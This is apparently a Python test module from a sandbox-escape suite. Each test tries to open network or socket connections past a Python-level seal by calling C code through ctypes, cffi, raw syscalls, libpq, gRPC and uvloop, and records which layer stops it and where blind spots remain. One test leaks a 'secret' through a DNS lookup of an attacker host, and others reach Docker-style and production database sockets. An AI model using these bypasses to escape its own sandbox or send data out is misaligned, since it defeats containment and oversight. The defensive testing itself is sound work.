"""Attempts that Python does not see: C code, which calls the kernel itself."""

import asyncio
import contextlib
import ctypes
import platform
import socket
import struct
import threading
from concurrent.futures import ThreadPoolExecutor
from typing import Any

from tests.escapes.outside import CLONE_HOST, ELSEWHERE, Outside
from tests.escapes.registry import Chapter, Layer, Outer

past_python = Chapter("Past Python")

_DECLARATIONS = """
int socket(int, int, int);
int connect(int, const char *, unsigned);
long sendto(int, const char *, unsigned long, int, const char *, unsigned);
"""
_NOT_HELD = "no audit event tells of C code, and Landlock holds `connect()` by TCP only"
_DATAGRAMS = "datagrams, Multipath TCP and TCP fast open from C code"
_MPTCP = 262


def _c() -> Any:
    from cffi import FFI  # noqa: PLC0415  a preview has not imported it before it was armed

    ffi = FFI()
    ffi.cdef(_DECLARATIONS)
    return ffi.dlopen(None)


def _packed(out: Outside) -> tuple[bytes, int]:
    """Write host and port as C does, and how long that is."""
    port = out.port.to_bytes(2, "big")
    written = struct.pack("=H", socket.AF_INET) + port + socket.inet_aton(out.host) + bytes(8)
    return written, len(written)


def _check(result: int) -> None:
    if result < 0:
        raise OSError("C says no")  # noqa: TRY003, EM101


@past_python.tries(Layer.TRIPWIRE)
def ctypes_connect(out: Outside) -> None:
    """`connect()` of the C library, by ctypes."""
    with socket.socket() as sock:
        _check(ctypes.CDLL(None).connect(sock.fileno(), *_packed(out)))


@past_python.tries(Layer.TRIPWIRE)
def ctypes_syscall(out: Outside) -> None:
    """The system call itself, by ctypes."""
    number = {"x86_64": 42, "aarch64": 203}[platform.machine()]
    with socket.socket() as sock:
        _check(ctypes.CDLL(None).syscall(number, sock.fileno(), *_packed(out)))


@past_python.tries(Layer.SEAL)
def ctypes_by_address(out: Outside) -> None:
    """A function of C by its place in memory, which the loader itself is asked for."""
    find = ctypes.CDLL(None).dlsym
    find.restype, find.argtypes = ctypes.c_void_p, (ctypes.c_void_p, ctypes.c_char_p)
    shape = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_int, ctypes.c_char_p, ctypes.c_uint)
    with socket.socket() as sock:
        _check(shape(find(None, b"connect"))(sock.fileno(), *_packed(out)))


@past_python.tries(Layer.SEAL)
def cffi_connect(out: Outside) -> None:
    """`connect()` of the C library, by cffi."""
    with socket.socket() as sock:
        _check(_c().connect(sock.fileno(), *_packed(out)))


@past_python.tries(Layer.SEAL)
def cffi_in_a_thread(out: Outside) -> None:
    """The same in a thread that was started after the seal."""

    def reach() -> None:
        with socket.socket() as sock:
            _check(_c().connect(sock.fileno(), *_packed(out)))

    with ThreadPoolExecutor() as pool:
        pool.submit(reach).result()


@past_python.tries(
    Layer.NOTHING,
    why="a seal holds the thread that makes it; `PR_ENV_SEAL=required` refuses such a start",
    held_by=Outer.NETWORK_POLICY,
    blind_spot="TCP from C code",
)
def cffi_in_a_thread_from_before(out: Outside) -> object:
    """The same in a thread from before: where there is one, nothing is sealed."""
    go = threading.Event()

    def reach() -> None:
        go.wait()
        with socket.socket() as sock:
            _check(_c().connect(sock.fileno(), *_packed(out)))

    early = threading.Thread(target=reach)
    early.start()
    yield
    go.set()
    early.join()


@past_python.tries(Layer.SEAL)
def libpq(out: Outside) -> None:
    """Postgres' own client library, by address."""
    import psycopg  # noqa: PLC0415

    psycopg.connect(host=out.host, port=out.port, connect_timeout=3)


@past_python.tries(Layer.SEAL, variables={"PGHOSTADDR": ELSEWHERE})
def libpq_with_pghostaddr(out: Outside) -> None:
    """Postgres' own client library with the clone's name, and PGHOSTADDR in the environment."""
    import psycopg  # noqa: PLC0415

    psycopg.connect(host=CLONE_HOST, port=out.port, connect_timeout=3)


@past_python.tries(Layer.SEAL)
def grpc_channel(out: Outside) -> None:
    """A channel of gRPC, whose core is C++."""
    import grpc  # noqa: PLC0415

    with grpc.insecure_channel(f"{out.host}:{out.port}") as channel:
        grpc.channel_ready_future(channel).result(timeout=1)


@past_python.tries(Layer.SEAL)
def uvloop_stream(out: Outside) -> None:
    """A stream on a loop of uvloop that code has made for itself."""
    import uvloop  # noqa: PLC0415

    async def reach() -> None:
        await asyncio.open_connection(*out.address)

    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(reach())


@past_python.tries(
    Layer.NOTHING, why=_NOT_HELD, held_by=Outer.NETWORK_POLICY, blind_spot=_DATAGRAMS
)
def uvloop_datagram(out: Outside) -> None:
    """A datagram on a loop of uvloop."""
    import uvloop  # noqa: PLC0415

    async def send() -> None:
        loop = asyncio.get_running_loop()
        transport, _ = await loop.create_datagram_endpoint(
            asyncio.DatagramProtocol, remote_addr=out.address
        )
        transport.sendto(b"x")
        await asyncio.sleep(0.1)
        transport.close()

    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(send())


@past_python.tries(
    Layer.NOTHING, why=_NOT_HELD, held_by=Outer.NETWORK_POLICY, blind_spot=_DATAGRAMS
)
def cffi_datagram(out: Outside) -> None:
    """A datagram from C."""
    with socket.socket(type=socket.SOCK_DGRAM) as sock:
        _check(_c().sendto(sock.fileno(), b"x", 1, 0, *_packed(out)))


@past_python.tries(
    Layer.NOTHING,
    resolver=True,
    why=_NOT_HELD,
    held_by=Outer.NOTHING,
    blind_spot=_DATAGRAMS,
)
def uvloop_look_up(_out: Outside) -> None:
    """A look-up in C that carries a secret in the name, by a loop of uvloop."""
    import uvloop  # noqa: PLC0415

    async def look_up() -> None:
        with contextlib.suppress(socket.gaierror):  # nobody answers
            await asyncio.get_running_loop().getaddrinfo("secret.attacker.example.", 443)

    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(look_up())


@past_python.tries(
    Layer.NOTHING, why=_NOT_HELD, held_by=Outer.NETWORK_POLICY, blind_spot=_DATAGRAMS
)
def cffi_fast_open(out: Outside) -> None:
    """TCP fast open from C."""
    with socket.socket() as sock:
        _check(_c().sendto(sock.fileno(), b"x", 1, socket.MSG_FASTOPEN, *_packed(out)))


@past_python.tries(
    Layer.NOTHING, why=_NOT_HELD, held_by=Outer.NETWORK_POLICY, blind_spot=_DATAGRAMS
)
def cffi_multipath(out: Outside) -> None:
    """Multipath TCP from C."""
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, _MPTCP) as sock:
        _check(_c().connect(sock.fileno(), *_packed(out)))


@past_python.tries(
    Layer.NOTHING,
    why=_NOT_HELD,
    held_by=Outer.FILE_SYSTEM,
    blind_spot="Unix sockets from C code",
)
def cffi_unix_socket(out: Outside) -> None:
    """A Unix socket from C, such as Docker's."""
    address = struct.pack("=H", socket.AF_UNIX) + out.path.encode() + b"\0"
    with socket.socket(socket.AF_UNIX) as sock:
        _check(_c().connect(sock.fileno(), address, len(address)))


@past_python.tries(
    Layer.NOTHING,
    why=_NOT_HELD,
    held_by=Outer.FILE_SYSTEM,
    blind_spot="Unix sockets from C code",
)
def libpq_to_productions_directory(out: Outside) -> None:
    """Postgres' own client library, and the socket directory of production's database."""
    import psycopg  # noqa: PLC0415

    directory = out.path.rpartition("/")[0]
    with contextlib.suppress(psycopg.OperationalError):  # who listens there speaks no Postgres
        psycopg.connect(host=directory, port=5432, connect_timeout=3)


@past_python.tries(
    Layer.NOTHING,
    over_tcp=True,
    why="Landlock tells ports apart, not hosts",
    held_by=Outer.NETWORK_POLICY,
    blind_spot="TCP to port",
)
def libpq_at_the_clones_port(out: Outside) -> None:
    """Postgres' own client library, another host, and the port that the clone has."""
    import psycopg  # noqa: PLC0415

    with contextlib.suppress(psycopg.OperationalError):  # who listens there speaks no Postgres
        psycopg.connect(host=out.host, port=out.port, connect_timeout=3)
